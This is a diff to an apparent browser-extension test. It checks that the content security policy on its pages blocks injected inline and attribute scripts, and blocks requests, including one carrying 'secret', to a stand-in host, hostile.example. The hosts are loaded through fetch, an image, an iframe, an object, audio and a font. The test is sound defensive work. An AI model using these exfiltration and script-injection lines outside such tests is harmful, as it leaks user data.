@@ -45,6 +45,17 @@ for (const page of ['popup.html', 'options.html', 'manager.html', 'frame.html'])
         image.src = src;
         return settled(loaded);
       };
+      /** Elements that fetch by themselves, until the browser is done with each: that it failed is told as well. */
+      const elements = { iframe: 'src', object: 'data', audio: 'src' };
+      const embedded = Object.entries(elements).map(([name, attribute]) => {
+        const element = document.createElement(name);
+        const done = new Promise((resolve) => {
+          for (const event of ['load', 'error']) element.addEventListener(event, resolve);
+        });
+        element.setAttribute(attribute, `https://hostile.example/${name}`);
+        document.body.append(element);
+        return done;
+      });
       const inline = document.createElement('script');
       inline.textContent = "document.documentElement.dataset.executed = 'inline'";
       document.head.append(inline);
@@ -62,14 +73,21 @@ for (const page of ['popup.html', 'options.html', 'manager.html', 'frame.html'])
       );
       document.body.setAttribute('onclick', "document.documentElement.dataset.executed = 'attribute'");
       document.body.click();
+      await Promise.all(embedded);
       return {
         evaluated,
         executed: document.documentElement.dataset.executed,
         fetched: await settled(fetch('https://hostile.example/?secret')),
         drawn: await picture('https://hostile.example/secret.png'),
+        written: await settled(new FontFace('x', 'url(https://hostile.example/font.woff)').load()),
       };
     });
-    expect(tried).toMatchObject({ evaluated: 'refused', fetched: 'refused', drawn: 'refused' });
+    expect(tried).toMatchObject({
+      evaluated: 'refused',
+      fetched: 'refused',
+      drawn: 'refused',
+      written: 'refused',
+    });
     expect(tried.executed).toBeUndefined();
     expect(sandbox.requests.slice(before).filter(({ host }) => host === 'hostile.example')).toEqual([]);
     // That the browser reports each attempt is what it should do.
